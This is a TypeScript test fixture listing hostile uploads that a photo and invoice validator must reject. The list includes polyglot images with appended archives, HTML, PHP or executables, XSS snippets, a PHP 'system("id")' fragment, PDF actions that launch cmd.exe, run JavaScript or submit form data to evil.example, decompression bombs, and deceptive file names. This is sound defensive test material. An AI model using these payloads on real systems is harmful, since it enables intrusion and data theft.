import { deflateSync } from 'node:zlib';
import { aHeic, aJpeg, aPdf, aPng, aWebp, aZip } from '../src/testing/sample-files.js';

const text = (value: string): Buffer => Buffer.from(value, 'latin1');
const joined = (...parts: readonly Buffer[]): Buffer => Buffer.concat(parts);

const wrongType = /We take photos/;
const second = /holds something other/;
const badName = /name/i;
const tooManyPixels = /too large: at most 60 million pixels/;

/** A PDF with objects that are packed together. */
const packed = (objects: string, about = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer =>
  aPdf(`5 0 obj\n<< ${about} >>\nstream\n${deflateSync(text(objects)).toString('latin1')}\nendstream\nendobj`);

type HostileFile = readonly [what: string, name: string, bytes: Buffer, says: RegExp];

/** Files that must never be accepted, and the message that their sender gets. */
export const hostileFiles: readonly HostileFile[] = [
  ['an empty file', 'photo.jpg', Buffer.alloc(0), /empty/],
  ['a page', 'photo.jpg', text('<!doctype html><script>alert(1)</script>'), wrongType],
  ['a program for Windows', 'invoice.pdf', joined(text('MZ'), Buffer.alloc(200)), wrongType],
  ['a GIF', 'photo.gif', joined(text('GIF89a'), Buffer.alloc(40)), wrongType],
  ['a film', 'photo.mp4', joined(Buffer.from([0, 0, 0, 24]), text('ftypisom'), Buffer.alloc(40)), wrongType],
  ['an archive called a photo', 'photo.jpg', aZip('photo.jpg'), wrongType],
  ['a photo with an archive behind it', 'photo.jpg', joined(aJpeg(), aZip('run.class')), second],
  [
    'a photo with an archive and a comment behind it',
    'photo.jpg',
    joined(aJpeg(), aZip().subarray(0, -2), Buffer.from([4, 0]), text('note')),
    second,
  ],
  ['a PNG with an archive behind it', 'photo.png', joined(aPng(), aZip('run.class')), second],
  ['a PDF with an archive behind it', 'invoice.pdf', joined(aPdf(), aZip('run.class')), second],
  ['a HEIC with an archive behind it', 'photo.heic', joined(aHeic(), aZip('run.class')), second],
  ['a photo with a RAR behind it', 'photo.jpg', joined(aJpeg(), text('Rar!\x1a\x07\x01\0'), Buffer.alloc(40)), second],
  ['a HEIC with a 7-Zip behind it', 'photo.heic', joined(aHeic(), Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])), second],
  ['a photo that is a page too', 'photo.jpg', joined(aJpeg(), text('<script>alert(1)</script>')), second],
  ['a PNG that is a page too', 'photo.png', joined(aPng(), text('<HTML><body onload=alert(1)>')), second],
  ['a photo that is a page without a head too', 'photo.jpg', joined(aJpeg(), text('<body onload=alert(1)>')), second],
  ['a photo that is a picture on a page too', 'photo.jpg', joined(aJpeg(), text('<img src=x onerror=alert(1)>')), second],
  ['a photo that is a script too', 'photo.jpg', joined(aJpeg(), text('\n#!/usr/bin/env python3\n')), second],
  ['a photo that is PostScript too', 'photo.jpg', joined(aJpeg(), text('%!PS-Adobe-3.0\n')), second],
  ['a photo that is a drawing too', 'photo.jpg', joined(aJpeg(), text('<svg onload=alert(1)>')), second],
  ['a photo that is PHP too', 'photo.jpg', joined(aJpeg(), text('<?php system("id");')), second],
  ['a WebP that is a page too', 'photo.webp', joined(aWebp(), text('<iframe src="//evil.example">')), second],
  ['a photo that is a PDF too', 'photo.jpg', joined(aJpeg(), aPdf()), second],
  ['a photo that is a program too', 'photo.jpg', joined(aJpeg(), text('This program cannot be run in DOS mode')), second],
  ['a PNG with something behind its end', 'photo.png', joined(aPng(), Buffer.alloc(64, 7)), second],
  ['a WebP with something behind its end', 'photo.webp', joined(aWebp(), Buffer.alloc(64, 7)), second],
  ['a PDF that is a page too', 'invoice.pdf', aPdf('<script>alert(1)</script>'), second],
  ['a PDF with a script', 'invoice.pdf', aPdf('<< /S /JavaScript /JS (app.alert(1)) >>'), /runs something/],
  ['a PDF with a script spelt otherwise', 'invoice.pdf', aPdf('<< /S /#4aava#53cript >>'), /runs something/],
  ['a PDF that starts a program', 'invoice.pdf', aPdf('<< /S /Launch /F (cmd.exe) >>'), /runs something/],
  ['a PDF with files in it', 'invoice.pdf', aPdf('<< /EmbeddedFiles 3 0 R >>'), /files in it/],
  ['a PDF that says it is protected, without a page', 'invoice.pdf', aPdf('<< /Encrypt 4 0 R >>'), /damaged/],
  ['a page that holds a PDF', 'invoice.pdf', joined(text('<html>'), aPdf()), second],
  ['something with a PDF far behind its start', 'invoice.pdf', joined(Buffer.alloc(1_100, 0x20), aPdf()), /We take photos/],
  ['a PDF that sends what is typed', 'invoice.pdf', aPdf('<< /S /SubmitForm /F (https://evil.example) >>'), /runs something/],
  ['a PDF with a script and no more', 'invoice.pdf', aPdf('<< /JS (app.alert(1)) >>'), /runs something/],
  ['a PDF that plays', 'invoice.pdf', aPdf('<< /S /Rendition /JS (app.alert(1)) >>'), /runs something/],
  ['a PDF with a packed script', 'invoice.pdf', packed('<< /S /JavaScript /JS (app.alert(1)) >>'), /runs something/],
  [
    'a PDF with a packed script spelt otherwise',
    'invoice.pdf',
    packed('<< /S /#4aava#53cript >>', '/Type/#4fbjStm/Filter/Fl'),
    /runs something/,
  ],
  [
    'a PDF with a script packed twice',
    'invoice.pdf',
    packed('<< >>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]'),
    /runs something/,
  ],
  ['a PDF with a bomb for a list of its objects', 'invoice.pdf', packed('0 '.repeat(8 * 1024 * 1024)), /unpacks to much more/],
  [
    'a PDF with a list of its objects that is broken',
    'invoice.pdf',
    aPdf('5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nno\nendstream'),
    /damaged/,
  ],
  [
    'a PDF with a picture of 2.5 thousand million pixels',
    'invoice.pdf',
    aPdf('<< /Subtype /Image /Width 50000 /Height 50000 >>'),
    tooManyPixels,
  ],
  ['half a PDF', 'invoice.pdf', aPdf().subarray(0, 40), /damaged/],
  ['half a PNG', 'photo.png', aPng().subarray(0, 45), /damaged/],
  ['half a photo', 'photo.jpg', aJpeg().subarray(0, 20), /damaged|could not read/],
  ['half a WebP', 'photo.webp', aWebp().subarray(0, 24), /damaged|could not read/],
  ['a PNG without a size', 'photo.png', aPng(0, 0), /could not read/],
  ['a PNG of 2.5 thousand million pixels', 'photo.png', aPng(50_000, 50_000), tooManyPixels],
  ['a PNG as long as a PNG can be', 'photo.png', aPng(2_147_483_647, 1), tooManyPixels],
  ['a PNG that unpacks to much more', 'photo.png', aPng(19_000, 19_000, 5_000), tooManyPixels],
  ['a photo of 4 thousand million pixels', 'photo.jpg', aJpeg(65_500, 65_500), tooManyPixels],
  ['a WebP of 270 million pixels', 'photo.webp', aWebp(16_383, 16_383), tooManyPixels],
  ['a HEIC of a thousand million pixels', 'photo.heic', aHeic(40_000, 25_000), tooManyPixels],
  ['a photo called a program', 'photo.exe', aJpeg(), badName],
  ['a photo called a program first', 'photo.exe.jpg', aJpeg(), badName],
  ['a photo called a page first', 'photo.html.jpg', aJpeg(), badName],
  ['a photo called a PDF', 'photo.pdf', aJpeg(), badName],
  ['a PDF called a photo', 'invoice.jpg', aPdf(), badName],
  ['a program whose name reads backwards', 'invoice\u202Egpj.exe', aJpeg(), badName],
  ['a program behind a sign that is not seen', 'invoice.ex\u00ADe', aJpeg(), badName],
  ['a program of the name of a site', 'kerbside.com', aJpeg(), badName],
  ['a name over two lines', 'invoice\u2028photo.jpg', aJpeg(), badName],
  ['a name of a program before a space', 'photo.exe .jpg', aJpeg(), badName],
  ['a name with a NUL', 'photo.php%00.jpg', aJpeg(), badName],
  ['a name of a device', 'CON.jpg', aJpeg(), badName],
  ['a hidden name', '.htaccess', aJpeg(), badName],
  ['a name of a tag', '<img src=x onerror=alert(1)>.jpg', aJpeg(), badName],
  ['a name that is much too long', `${'a'.repeat(200)}.jpg`, aJpeg(), badName],
];
